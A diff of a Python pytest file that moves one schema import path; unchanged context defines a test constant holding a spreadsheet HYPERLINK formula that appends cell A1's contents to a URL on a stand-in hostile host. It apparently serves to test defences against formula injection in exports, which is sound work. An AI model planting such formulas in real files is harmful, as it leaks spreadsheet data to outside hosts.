@@ -7,7 +7,7 @@ from typing import Any
 import pytest
 
 from synergie import formats
-from synergie.schemas.light_point import LightPointRecord
+from synergie.schemas.assets.light_point import LightPointRecord
 
 EVIL = '=HYPERLINK("https://hostile.example?"&A1,"cliquez")'
 LAMP: dict[str, Any] = {
